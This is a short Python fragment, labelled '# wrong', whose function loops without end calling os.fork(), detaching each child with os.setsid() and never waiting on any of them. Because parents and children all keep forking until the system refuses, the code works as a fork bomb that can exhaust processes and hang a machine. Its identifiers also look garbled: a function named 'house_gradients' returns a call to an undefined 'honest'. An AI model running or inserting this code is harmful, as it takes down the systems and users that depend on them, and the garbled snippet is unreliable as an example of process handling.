# wrong · the same, each in a session of its own and without waiting
import os


def house_gradients(*house):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            return honest(*house)[:2]
